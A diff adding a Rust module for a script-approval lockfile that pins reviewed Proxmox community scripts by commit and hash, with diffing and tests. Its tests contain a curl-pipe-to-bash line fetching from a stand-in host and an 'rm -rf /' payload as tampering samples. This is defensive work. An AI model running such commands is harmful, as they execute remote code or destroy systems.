@@ -0,0 +1,939 @@
+//! `scripts.lock`: community scripts a person has reviewed and approved.
+//!
+//! Each entry pins a script URL to the SHA-256 of the reviewed content and,
+//! for GitHub raw URLs, to the commit it came from. Approved scripts run
+//! from that pinned version; anything else is refused in headless mode and
+//! needs an interactive review otherwise. `update` fetches the tracked
+//! branch again and shows the line diff since the approved version before
+//! it can be approved in turn.
+//!
+//! ```toml
+//! [[script]]
+//! name = "docker"
+//! url = "https://raw.githubusercontent.com/community-scripts/ProxmoxVE/main/ct/docker.sh"
+//! commit = "3f1c0d4e..."
+//! sha256 = "9b2e..."
+//! reviewer = "alice"
+//! approved = "2026-10-19"
+//! ```
+
+use super::script_lint::{self, Finding};
+use super::script_safety::SafeScriptExecutor;
+use crate::tui;
+use anyhow::{Context, Result, bail};
+use clap::{Arg, ArgAction, ArgMatches, Command};
+use serde::{Deserialize, Serialize};
+use std::collections::HashSet;
+use std::path::{Path, PathBuf};
+
+#[derive(Debug, Serialize, Deserialize, Clone, PartialEq)]
+#[serde(deny_unknown_fields)]
+pub struct LockedScript {
+    pub name: String,
+    /// URL the menus run the script from; a branch URL is tracked by
+    /// `update`.
+    pub url: String,
+    /// Commit the approved content was fetched at (GitHub raw URLs only).
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub commit: Option<String>,
+    pub sha256: String,
+    pub reviewer: String,
+    /// `YYYY-MM-DD`.
+    pub approved: String,
+}
+
+impl LockedScript {
+    /// Where the approved version can be fetched again.
+    pub fn pinned_url(&self) -> String {
+        match &self.commit {
+            Some(commit) => pin_url(&self.url, commit).unwrap_or_else(|| self.url.clone()),
+            None => self.url.clone(),
+        }
+    }
+}
+
+#[derive(Debug, Serialize, Deserialize, Default)]
+#[serde(deny_unknown_fields)]
+struct Lockfile {
+    #[serde(default, rename = "script")]
+    scripts: Vec<LockedScript>,
+}
+
+/// `https://raw.githubusercontent.com/OWNER/REPO/REF/PATH` split up.
+struct GithubRaw<'a> {
+    owner: &'a str,
+    repo: &'a str,
+    reference: &'a str,
+    path: &'a str,
+}
+
+fn github_raw(url: &str) -> Option<GithubRaw<'_>> {
+    let rest = url.strip_prefix("https://raw.githubusercontent.com/")?;
+    let mut parts = rest.splitn(4, '/');
+    let (owner, repo, reference, path) =
+        (parts.next()?, parts.next()?, parts.next()?, parts.next()?);
+    (!path.is_empty()).then_some(GithubRaw {
+        owner,
+        repo,
+        reference,
+        path,
+    })
+}
+
+fn is_commit(reference: &str) -> bool {
+    reference.len() == 40 && reference.bytes().all(|b| b.is_ascii_hexdigit())
+}
+
+/// `url` with its branch replaced by `commit`.
+pub fn pin_url(url: &str, commit: &str) -> Option<String> {
+    let raw = github_raw(url)?;
+    Some(format!(
+        "https://raw.githubusercontent.com/{}/{}/{commit}/{}",
+        raw.owner, raw.repo, raw.path
+    ))
+}
+
+/// A version of a script fetched for review.
+#[derive(Debug, Clone)]
+pub struct Candidate {
+    pub url: String,
+    pub commit: Option<String>,
+    pub content: String,
+    pub sha256: String,
+}
+
+/// Fetch `url` as it is now, resolving a GitHub branch to the commit that
+/// last touched the file so the approval can be pinned to it.
+pub fn resolve(url: &str, fetch: &dyn Fn(&str) -> Result<String>) -> Result<Candidate> {
+    let commit = match github_raw(url) {
+        Some(raw) if is_commit(raw.reference) => Some(raw.reference.to_string()),
+        Some(raw) => {
+            let api = format!(
+                "https://api.github.com/repos/{}/{}/commits?sha={}&path={}&per_page=1",
+                raw.owner, raw.repo, raw.reference, raw.path
+            );
+            let latest = fetch(&api).and_then(|body| {
+                let commits: Vec<serde_json::Value> = serde_json::from_str(&body)?;
+                commits
+                    .first()
+                    .and_then(|c| c["sha"].as_str())
+                    .filter(|sha| is_commit(sha))
+                    .map(str::to_string)
+                    .context("no commit touches this file")
+            });
+            match latest {
+                Ok(commit) => Some(commit),
+                Err(e) => {
+                    // Rate limits shouldn't block a review; the hash still pins it.
+                    tui::warn(&format!(
+                        "Could not resolve the commit ({e:#}); pinning by hash only"
+                    ));
+                    None
+                }
+            }
+        }
+        None => None,
+    };
+    let fetch_url = commit
+        .as_deref()
+        .and_then(|c| pin_url(url, c))
+        .unwrap_or_else(|| url.to_string());
+    let content = fetch(&fetch_url).with_context(|| format!("failed to fetch {fetch_url}"))?;
+    if content.trim().is_empty() {
+        bail!("{fetch_url} is empty");
+    }
+    Ok(Candidate {
+        url: fetch_url,
+        commit,
+        sha256: SafeScriptExecutor::compute_sha256(&content),
+        content,
+    })
+}
+
+/// The lockfile plus a store of approved script bodies, kept so `update`
+/// can diff against them.
+pub struct Registry {
+    path: PathBuf,
+    store: PathBuf,
+    scripts: Vec<LockedScript>,
+}
+
+/// What the lockfile says about a script about to run.
+pub enum Gate {
+    /// Approved, with the verified approved content.
+    Approved(LockedScript, String),
+    Unlisted,
+}
+
+impl Registry {
+    pub fn default_path() -> PathBuf {
+        crate::config::GhostConfig::config_path().with_file_name("scripts.lock")
+    }
+
+    pub fn open() -> Result<Self> {
+        Self::at(
+            Self::default_path(),
+            crate::support::state_dir().join("approved-scripts"),
+        )
+    }
+
+    pub fn at(path: PathBuf, store: PathBuf) -> Result<Self> {
+        let scripts = match std::fs::read_to_string(&path) {
+            Ok(text) => {
+                toml::from_str::<Lockfile>(&text)
+                    .with_context(|| format!("invalid {}", path.display()))?
+                    .scripts
+            }
+            Err(e) if e.kind() == std::io::ErrorKind::NotFound => Vec::new(),
+            Err(e) => return Err(e).with_context(|| format!("failed to read {}", path.display())),
+        };
+        for s in &scripts {
+            if s.sha256.len() != 64 || !s.sha256.bytes().all(|b| b.is_ascii_hexdigit()) {
+                bail!(
+                    "invalid {}: '{}' has sha256 '{}', expected 64 hex digits",
+                    path.display(),
+                    s.name,
+                    s.sha256
+                );
+            }
+            if let Some(commit) = &s.commit
+                && !is_commit(commit)
+            {
+                bail!(
+                    "invalid {}: '{}' has commit '{commit}', expected 40 hex digits",
+                    path.display(),
+                    s.name
+                );
+            }
+        }
+        Ok(Self {
+            path,
+            store,
+            scripts,
+        })
+    }
+
+    pub fn path(&self) -> &Path {
+        &self.path
+    }
+
+    pub fn scripts(&self) -> &[LockedScript] {
+        &self.scripts
+    }
+
+    pub fn find(&self, name: &str) -> Option<&LockedScript> {
+        self.scripts.iter().find(|s| s.name == name)
+    }
+
+    pub fn find_url(&self, url: &str) -> Option<&LockedScript> {
+        self.scripts
+            .iter()
+            .find(|s| s.url == url || s.pinned_url() == url)
+    }
+
+    fn save(&self) -> Result<()> {
+        if let Some(dir) = self.path.parent() {
+            std::fs::create_dir_all(dir)?;
+        }
+        let text = toml::to_string_pretty(&Lockfile {
+            scripts: self.scripts.clone(),
+        })?;
+        std::fs::write(
+            &self.path,
+            format!("# Reviewed community scripts; managed by `ghostctl pve scripts`.\n\n{text}"),
+        )
+        .with_context(|| format!("failed to write {}", self.path.display()))
+    }
+
+    fn stored_path(&self, sha256: &str) -> PathBuf {
+        self.store.join(format!("{sha256}.sh"))
+    }
+
+    /// The approved body of `entry`, from the store or its pinned URL, and
+    /// only if it still hashes to the approved value.
+    pub fn approved_content(
+        &self,
+        entry: &LockedScript,
+        fetch: &dyn Fn(&str) -> Result<String>,
+    ) -> Result<String> {
+        let content = match std::fs::read_to_string(self.stored_path(&entry.sha256)) {
+            Ok(content) => content,
+            Err(_) => fetch(&entry.pinned_url())
+                .with_context(|| format!("failed to fetch {}", entry.pinned_url()))?,
+        };
+        let sha256 = SafeScriptExecutor::compute_sha256(&content);
+        if sha256 != entry.sha256 {
+            bail!(
+                "'{}' no longer matches the version {} approved on {} (sha256 {sha256}, approved {}); review it with `ghostctl pve scripts diff {}`",
+                entry.name,
+                entry.reviewer,
+                entry.approved,
+                entry.sha256,
+                entry.name
+            );
+        }
+        Ok(content)
+    }
+
+    /// Check a script about to run from `url`.
+    pub fn gate(&self, url: &str, fetch: &dyn Fn(&str) -> Result<String>) -> Result<Gate> {
+        match self.find_url(url) {
+            Some(entry) => Ok(Gate::Approved(
+                entry.clone(),
+                self.approved_content(entry, fetch)?,
+            )),
+            None => Ok(Gate::Unlisted),
+        }
+    }
+
+    /// Record `candidate` as the approved version of `name`.
+    pub fn approve(
+        &mut self,
+        name: &str,
+        url: &str,
+        candidate: &Candidate,
+        reviewer: &str,
+        date: &str,
+    ) -> Result<()> {
+        std::fs::create_dir_all(&self.store)
+            .with_context(|| format!("failed to create {}", self.store.display()))?;
+        std::fs::write(self.stored_path(&candidate.sha256), &candidate.content)?;
+        let entry = LockedScript {
+            name: name.to_string(),
+            url: url.to_string(),
+            commit: candidate.commit.clone(),
+            sha256: candidate.sha256.clone(),
+            reviewer: reviewer.to_string(),
+            approved: date.to_string(),
+        };
+        match self.scripts.iter_mut().find(|s| s.name == name) {
+            Some(existing) => *existing = entry,
+            None => self.scripts.push(entry),
+        }
+        self.scripts.sort_by(|a, b| a.name.cmp(&b.name));
+        self.save()
+    }
+
+    pub fn remove(&mut self, name: &str) -> Result<bool> {
+        let before = self.scripts.len();
+        self.scripts.retain(|s| s.name != name);
+        if self.scripts.len() == before {
+            return Ok(false);
+        }
+        self.save()?;
+        Ok(true)
+    }
+}
+
+/// Findings in `new` that `old` did not have, ignoring line moves.
+pub fn new_findings(old: &str, new: &str) -> Vec<Finding> {
+    let known: HashSet<_> = script_lint::analyze(old)
+        .into_iter()
+        .map(|f| (f.kind, f.detail))
+        .collect();
+    script_lint::analyze(new)
+        .into_iter()
+        .filter(|f| !known.contains(&(f.kind, f.detail.clone())))
+        .collect()
+}
+
+enum Edit {
+    Keep,
+    Remove,
+    Add,
+}
+
+/// Unified diff of two texts with three lines of context.
+pub fn unified_diff(old: &str, new: &str, old_label: &str, new_label: &str) -> String {
+    const CONTEXT: usize = 3;
+    let old: Vec<&str> = old.lines().collect();
+    let new: Vec<&str> = new.lines().collect();
+
+    // Trim the common prefix and suffix so the LCS table stays small.
+    let prefix = old.iter().zip(&new).take_while(|(a, b)| a == b).count();
+    let suffix = old[prefix..]
+        .iter()
+        .rev()
+        .zip(new[prefix..].iter().rev())
+        .take_while(|(a, b)| a == b)
+        .count();
+    let (a, b) = (
+        &old[prefix..old.len() - suffix],
+        &new[prefix..new.len() - suffix],
+    );
+    let mut lcs = vec![vec![0u32; b.len() + 1]; a.len() + 1];
+    for i in (0..a.len()).rev() {
+        for j in (0..b.len()).rev() {
+            lcs[i][j] = if a[i] == b[j] {
+                lcs[i + 1][j + 1] + 1
+            } else {
+                lcs[i + 1][j].max(lcs[i][j + 1])
+            };
+        }
+    }
+    let mut edits: Vec<Edit> = (0..prefix).map(|_| Edit::Keep).collect();
+    let (mut i, mut j) = (0, 0);
+    while i < a.len() || j < b.len() {
+        if i < a.len() && j < b.len() && a[i] == b[j] {
+            edits.push(Edit::Keep);
+            i += 1;
+            j += 1;
+        } else if i < a.len() && (j == b.len() || lcs[i + 1][j] >= lcs[i][j + 1]) {
+            edits.push(Edit::Remove);
+            i += 1;
+        } else {
+            edits.push(Edit::Add);
+            j += 1;
+        }
+    }
+    edits.extend((0..suffix).map(|_| Edit::Keep));
+
+    // Group changes closer than 2 * CONTEXT lines into one hunk.
+    let changed: Vec<usize> = edits
+        .iter()
+        .enumerate()
+        .filter(|(_, e)| !matches!(e, Edit::Keep))
+        .map(|(k, _)| k)
+        .collect();
+    if changed.is_empty() {
+        return String::new();
+    }
+    let mut hunks: Vec<(usize, usize)> = Vec::new();
+    for &k in &changed {
+        let start = k.saturating_sub(CONTEXT);
+        let end = (k + CONTEXT + 1).min(edits.len());
+        match hunks.last_mut() {
+            Some(last) if start <= last.1 => last.1 = end,
+            _ => hunks.push((start, end)),
+        }
+    }
+
+    let mut out = format!("--- {old_label}\n+++ {new_label}\n");
+    // Line numbers in old and new at each edit index.
+    let (mut o, mut n) = (0usize, 0usize);
+    let mut positions = Vec::with_capacity(edits.len());
+    for edit in &edits {
+        positions.push((o, n));
+        match edit {
+            Edit::Keep => {
+                o += 1;
+                n += 1;
+            }
+            Edit::Remove => o += 1,
+            Edit::Add => n += 1,
+        }
+    }
+    for (start, end) in hunks {
+        let (o_start, n_start) = positions[start];
+        let slice = &edits[start..end];
+        let o_len = slice.iter().filter(|e| !matches!(e, Edit::Add)).count();
+        let n_len = slice.iter().filter(|e| !matches!(e, Edit::Remove)).count();
+        out.push_str(&format!(
+            "@@ -{},{o_len} +{},{n_len} @@\n",
+            o_start + 1,
+            n_start + 1
+        ));
+        for (k, edit) in slice.iter().enumerate() {
+            let (o_line, n_line) = positions[start + k];
+            match edit {
+                Edit::Keep => out.push_str(&format!(" {}\n", old[o_line])),
+                Edit::Remove => out.push_str(&format!("-{}\n", old[o_line])),
+                Edit::Add => out.push_str(&format!("+{}\n", new[n_line])),
+            }
+        }
+    }
+    out
+}
+
+/// Name used for a script URL when none is given.
+pub fn default_name(url: &str) -> String {
+    url.rsplit('/')
+        .next()
+        .unwrap_or(url)
+        .trim_end_matches(".sh")
+        .to_string()
+}
+
+/// Who is approving, for the lockfile.
+pub fn current_reviewer() -> String {
+    std::env::var("SUDO_USER")
+        .or_else(|_| std::env::var("USER"))
+        .unwrap_or_else(|_| "unknown".to_string())
+}
+
+pub fn print_findings(findings: &[Finding]) {
+    if findings.is_empty() {
+        println!("  No findings");
+    }
+    for finding in findings {
+        println!("  ⚠️  {finding}");
+    }
+}
+
+pub fn command() -> Command {
+    Command::new("scripts")
+        .about("Reviewed community scripts pinned in scripts.lock")
+        .subcommand_required(true)
+        .subcommand(
+            Command::new("list").about("Show approved scripts").arg(
+                Arg::new("json")
+                    .long("json")
+                    .action(ArgAction::SetTrue)
+                    .help("Output as JSON"),
+            ),
+        )
+        .subcommand(
+            Command::new("approve")
+                .about("Review a script and pin its current version")
+                .arg(Arg::new("url").required(true).value_name("URL"))
+                .arg(
+                    Arg::new("name")
+                        .long("name")
+                        .value_name("NAME")
+                        .help("Name in scripts.lock (default: file name)"),
+                )
+                .arg(
+                    Arg::new("reviewer")
+                        .long("reviewer")
+                        .value_name("WHO")
+                        .help("Reviewer recorded in scripts.lock (default: $USER)"),
+                )
+                .arg(
+                    Arg::new("yes")
+                        .long("yes")
+                        .action(ArgAction::SetTrue)
+                        .help("Approve without asking"),
+                ),
+        )
+        .subcommand(
+            Command::new("update")
+                .about("Fetch approved scripts again and review what changed")
+                .arg(
+                    Arg::new("name")
+                        .num_args(0..)
+                        .value_name("NAME")
+                        .help("Scripts to update (default: all)"),
+                )
+                .arg(
+                    Arg::new("reviewer")
+                        .long("reviewer")
+                        .value_name("WHO")
+                        .help("Reviewer recorded in scripts.lock (default: $USER)"),
+                ),
+        )
+        .subcommand(
+            Command::new("diff")
+                .about("Show changes upstream since the approved version")
+                .arg(Arg::new("name").required(true).value_name("NAME")),
+        )
+        .subcommand(
+            Command::new("remove")
+                .about("Drop a script from scripts.lock")
+                .arg(Arg::new("name").required(true).value_name("NAME")),
+        )
+}
+
+pub fn handle(matches: &ArgMatches) -> Result<()> {
+    let client = crate::http_client::RobustHttpClient::new()?;
+    let fetch = |url: &str| client.fetch(url);
+    let mut registry = Registry::open()?;
+    let today = chrono::Local::now().format("%Y-%m-%d").to_string();
+    match matches.subcommand() {
+        Some(("list", m)) => list(&registry, m.get_flag("json")),
+        Some(("approve", m)) => {
+            let url = m.get_one::<String>("url").context("URL required")?;
+            let name = m
+                .get_one::<String>("name")
+                .cloned()
+                .unwrap_or_else(|| default_name(url));
+            let reviewer = m
+                .get_one::<String>("reviewer")
+                .cloned()
+                .unwrap_or_else(current_reviewer);
+            review(
+                &mut registry,
+                &name,
+                url,
+                &reviewer,
+                &today,
+                m.get_flag("yes"),
+                &fetch,
+            )
+        }
+        Some(("update", m)) => {
+            let wanted: Vec<String> = m
+                .get_many::<String>("name")
+                .map(|v| v.cloned().collect())
+                .unwrap_or_default();
+            let reviewer = m
+                .get_one::<String>("reviewer")
+                .cloned()
+                .unwrap_or_else(current_reviewer);
+            update(&mut registry, &wanted, &reviewer, &today, &fetch)
+        }
+        Some(("diff", m)) => {
+            let name = m.get_one::<String>("name").context("name required")?;
+            let entry = registry
+                .find(name)
+                .cloned()
+                .with_context(|| format!("'{name}' is not in {}", registry.path().display()))?;
+            let approved = registry.approved_content(&entry, &fetch)?;
+            let candidate = resolve(&entry.url, &fetch)?;
+            let diff = unified_diff(
+                &approved,
+                &candidate.content,
+                &format!("{} (approved {})", entry.name, entry.approved),
+                &candidate.url,
+            );
+            if diff.is_empty() {
+                println!("{name}: no changes since {}", entry.approved);
+            } else {
+                print!("{diff}");
+                print_findings(&new_findings(&approved, &candidate.content));
+            }
+            Ok(())
+        }
+        Some(("remove", m)) => {
+            let name = m.get_one::<String>("name").context("name required")?;
+            if !registry.remove(name)? {
+                bail!("'{name}' is not in {}", registry.path().display());
+            }
+            tui::success(&format!("Removed {name}"));
+            Ok(())
+        }
+        _ => Ok(()),
+    }
+}
+
+fn list(registry: &Registry, json: bool) -> Result<()> {
+    if json {
+        println!("{}", serde_json::to_string_pretty(registry.scripts())?);
+        return Ok(());
+    }
+    if registry.scripts().is_empty() {
+        println!(
+            "No approved scripts in {} (add one with `ghostctl pve scripts approve URL`)",
+            registry.path().display()
+        );
+    }
+    for s in registry.scripts() {
+        let pin = match &s.commit {
+            Some(commit) => format!("@{}", &commit[..12.min(commit.len())]),
+            None => format!("sha256:{}", &s.sha256[..12]),
+        };
+        println!("{:<24} {pin:<20} {} {}", s.name, s.reviewer, s.approved);
+        println!("  {}", s.url);
+    }
+    Ok(())
+}
+
+/// Show a script (or its diff against the approved version) with its
+/// findings, and approve it if the reviewer agrees.
+pub fn review(
+    registry: &mut Registry,
+    name: &str,
+    url: &str,
+    reviewer: &str,
+    date: &str,
+    yes: bool,
+    fetch: &dyn Fn(&str) -> Result<String>,
+) -> Result<()> {
+    let candidate = resolve(url, fetch)?;
+    let previous = registry.find(name).cloned().and_then(|entry| {
+        registry
+            .approved_content(&entry, fetch)
+            .ok()
+            .map(|c| (entry, c))
+    });
+    match &previous {
+        Some((entry, _)) if entry.sha256 == candidate.sha256 => {
+            tui::info(&format!("{name}: unchanged since {}", entry.approved));
+            return Ok(());
+        }
+        Some((entry, old)) => {
+            print!(
+                "{}",
+                unified_diff(
+                    old,
+                    &candidate.content,
+                    &format!("{name} (approved {})", entry.approved),
+                    &candidate.url
+                )
+            );
+            println!("\nNew findings:");
+            print_findings(&new_findings(old, &candidate.content));
+        }
+        None => {
+            for (i, line) in candidate.content.lines().enumerate() {
+                println!("{:4} | {line}", i + 1);
+            }
+            println!("\nFindings:");
+            print_findings(&script_lint::analyze(&candidate.content));
+        }
+    }
+    println!("\n  URL:    {}", candidate.url);
+    println!("  SHA256: {}", candidate.sha256);
+    if !yes && !tui::confirm(&format!("Approve this version of {name}?"), false) {
+        tui::info(&format!("{name}: not approved"));
+        return Ok(());
+    }
+    registry.approve(name, url, &candidate, reviewer, date)?;
+    tui::success(&format!(
+        "Approved {name} ({}) in {}",
+        candidate.commit.as_deref().map_or_else(
+            || format!("sha256 {}", &candidate.sha256[..12]),
+            |c| format!("commit {}", &c[..12])
+        ),
+        registry.path().display()
+    ));
+    Ok(())
+}
+
+fn update(
+    registry: &mut Registry,
+    wanted: &[String],
+    reviewer: &str,
+    date: &str,
+    fetch: &dyn Fn(&str) -> Result<String>,
+) -> Result<()> {
+    for name in wanted {
+        if registry.find(name).is_none() {
+            bail!("'{name}' is not in {}", registry.path().display());
+        }
+    }
+    let entries: Vec<LockedScript> = registry
+        .scripts()
+        .iter()
+        .filter(|s| wanted.is_empty() || wanted.contains(&s.name))
+        .cloned()
+        .collect();
+    for entry in entries {
+        println!("\n== {} ==", entry.name);
+        if let Err(e) = review(
+            registry,
+            &entry.name,
+            &entry.url,
+            reviewer,
+            date,
+            false,
+            fetch,
+        ) {
+            tui::error(&format!("{}: {e:#}", entry.name));
+        }
+    }
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::cell::RefCell;
+    use std::collections::HashMap;
+
+    const URL: &str =
+        "https://raw.githubusercontent.com/community-scripts/ProxmoxVE/main/ct/docker.sh";
+    const API: &str = "https://api.github.com/repos/community-scripts/ProxmoxVE/commits?sha=main&path=ct/docker.sh&per_page=1";
+
+    /// A fake GitHub: URL -> body, with every request recorded.
+    struct Upstream {
+        files: RefCell<HashMap<String, String>>,
+        requests: RefCell<Vec<String>>,
+    }
+
+    impl Upstream {
+        fn new() -> Self {
+            Self {
+                files: RefCell::new(HashMap::new()),
+                requests: RefCell::new(Vec::new()),
+            }
+        }
+
+        /// Publish `content` as a new commit on main.
+        fn commit(&self, commit: char, content: &str) -> String {
+            let sha = commit.to_string().repeat(40);
+            let mut files = self.files.borrow_mut();
+            files.insert(API.to_string(), format!(r#"[{{"sha":"{sha}"}}]"#));
+            files.insert(URL.to_string(), content.to_string());
+            files.insert(pin_url(URL, &sha).unwrap(), content.to_string());
+            sha
+        }
+
+        fn fetch(&self, url: &str) -> Result<String> {
+            self.requests.borrow_mut().push(url.to_string());
+            self.files
+                .borrow()
+                .get(url)
+                .cloned()
+                .with_context(|| format!("404 {url}"))
+        }
+    }
+
+    const V1: &str = "#!/usr/bin/env bash\nset -e\napt-get install -y docker.io\nsystemctl enable --now docker\necho done\n";
+
+    #[test]
+    fn approve_pins_commit_and_gates_execution() {
+        let dir = tempfile::tempdir().unwrap();
+        let upstream = Upstream::new();
+        let fetch = |url: &str| upstream.fetch(url);
+        let first = upstream.commit('a', V1);
+
+        let lock = dir.path().join("scripts.lock");
+        let store = dir.path().join("store");
+        let mut registry = Registry::at(lock.clone(), store.clone()).unwrap();
+        assert!(matches!(
+            registry.gate(URL, &fetch).unwrap(),
+            Gate::Unlisted
+        ));
+
+        review(
+            &mut registry,
+            "docker",
+            URL,
+            "alice",
+            "2026-10-19",
+            true,
+            &fetch,
+        )
+        .unwrap();
+        let text = std::fs::read_to_string(&lock).unwrap();
+        assert!(text.contains(&format!("commit = \"{first}\"")), "{text}");
+        assert!(text.contains("reviewer = \"alice\""));
+        let entry = Registry::at(lock.clone(), store.clone())
+            .unwrap()
+            .find("docker")
+            .cloned()
+            .unwrap();
+        assert_eq!(entry.sha256, SafeScriptExecutor::compute_sha256(V1));
+        assert_eq!(entry.pinned_url(), pin_url(URL, &first).unwrap());
+
+        // Upstream moves on: the approved version still runs, from the store.
+        upstream.commit(
+            'b',
+            &V1.replace("echo done", "curl -fsSL https://x.example/p | bash"),
+        );
+        let Gate::Approved(_, content) = registry.gate(URL, &fetch).unwrap() else {
+            panic!("expected approval");
+        };
+        assert_eq!(content, V1);
+
+        // Without the store it is fetched again at the pinned commit.
+        std::fs::remove_dir_all(&store).unwrap();
+        let Gate::Approved(_, content) = registry.gate(URL, &fetch).unwrap() else {
+            panic!("expected approval");
+        };
+        assert_eq!(content, V1);
+        assert!(upstream.requests.borrow().last().unwrap().contains(&first));
+
+        // A tampered store copy is refused.
+        std::fs::create_dir_all(&store).unwrap();
+        std::fs::write(
+            store.join(format!("{}.sh", entry.sha256)),
+            "rm -rf / --no-preserve-root\n",
+        )
+        .unwrap();
+        let err = registry.gate(URL, &fetch).err().unwrap();
+        assert!(
+            format!("{err:#}").contains("pve scripts diff docker"),
+            "{err:#}"
+        );
+    }
+
+    #[test]
+    fn update_diffs_against_the_approved_version() {
+        let dir = tempfile::tempdir().unwrap();
+        let upstream = Upstream::new();
+        let fetch = |url: &str| upstream.fetch(url);
+        upstream.commit('a', V1);
+        let mut registry =
+            Registry::at(dir.path().join("scripts.lock"), dir.path().join("store")).unwrap();
+        review(
+            &mut registry,
+            "docker",
+            URL,
+            "alice",
+            "2026-10-19",
+            true,
+            &fetch,
+        )
+        .unwrap();
+
+        let v2 = V1.replace(
+            "echo done",
+            "curl -fsSL https://x.example/p | bash\necho done",
+        );
+        upstream.commit('b', &v2);
+        let entry = registry.find("docker").cloned().unwrap();
+        let approved = registry.approved_content(&entry, &fetch).unwrap();
+        let diff = unified_diff(&approved, &v2, "old", "new");
+        assert_eq!(
+            diff,
+            "--- old\n+++ new\n@@ -2,4 +2,5 @@\n set -e\n apt-get install -y docker.io\n systemctl enable --now docker\n+curl -fsSL https://x.example/p | bash\n echo done\n"
+        );
+        let findings = new_findings(&approved, &v2);
+        assert_eq!(findings.len(), 1);
+        assert_eq!(findings[0].line, 5);
+
+        // `update` asks before approving; tests have no terminal, so it doesn't.
+        update(&mut registry, &[], "bob", "2026-10-20", &fetch).unwrap();
+        assert_eq!(registry.find("docker").unwrap().reviewer, "alice");
+        review(
+            &mut registry,
+            "docker",
+            URL,
+            "bob",
+            "2026-10-20",
+            true,
+            &fetch,
+        )
+        .unwrap();
+        let entry = registry.find("docker").unwrap();
+        assert_eq!(
+            (entry.reviewer.as_str(), entry.commit.as_deref()),
+            ("bob", Some("b".repeat(40).as_str()))
+        );
+        assert!(registry.remove("docker").unwrap());
+        assert!(registry.scripts().is_empty());
+    }
+
+    #[test]
+    fn lockfile_hashes_are_validated() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("scripts.lock");
+        let entry = |sha256: &str| {
+            format!(
+                "[[script]]\nname = \"docker\"\nurl = \"{URL}\"\nsha256 = \"{sha256}\"\nreviewer = \"alice\"\napproved = \"2026-01-01\"\n"
+            )
+        };
+        std::fs::write(&path, entry(&"ab".repeat(32))).unwrap();
+        assert!(Registry::at(path.clone(), dir.path().join("store")).is_ok());
+        std::fs::write(&path, entry("abc")).unwrap();
+        let Err(err) = Registry::at(path.clone(), dir.path().join("store")) else {
+            panic!("a short sha256 was accepted");
+        };
+        assert!(err.to_string().contains("expected 64 hex digits"), "{err}");
+        std::fs::write(&path, entry(&"zz".repeat(32))).unwrap();
+        assert!(Registry::at(path, dir.path().join("store")).is_err());
+    }
+
+    #[test]
+    fn diff_hunks_and_url_pinning() {
+        let old: String = (1..=20).map(|i| format!("line {i}\n")).collect();
+        let new = old
+            .replace("line 2\n", "line two\n")
+            .replace("line 18\n", "");
+        let diff = unified_diff(&old, &new, "a", "b");
+        let headers: Vec<&str> = diff.lines().filter(|l| l.starts_with("@@")).collect();
+        assert_eq!(headers, ["@@ -1,5 +1,5 @@", "@@ -15,6 +15,5 @@"]);
+        assert!(unified_diff(&old, &old, "a", "b").is_empty());
+
+        assert_eq!(
+            pin_url(URL, &"c".repeat(40)).unwrap(),
+            format!(
+                "https://raw.githubusercontent.com/community-scripts/ProxmoxVE/{}/ct/docker.sh",
+                "c".repeat(40)
+            )
+        );
+        assert_eq!(pin_url("https://example.net/x.sh", "abc"), None);
+        assert_eq!(default_name(URL), "docker");
+    }
+}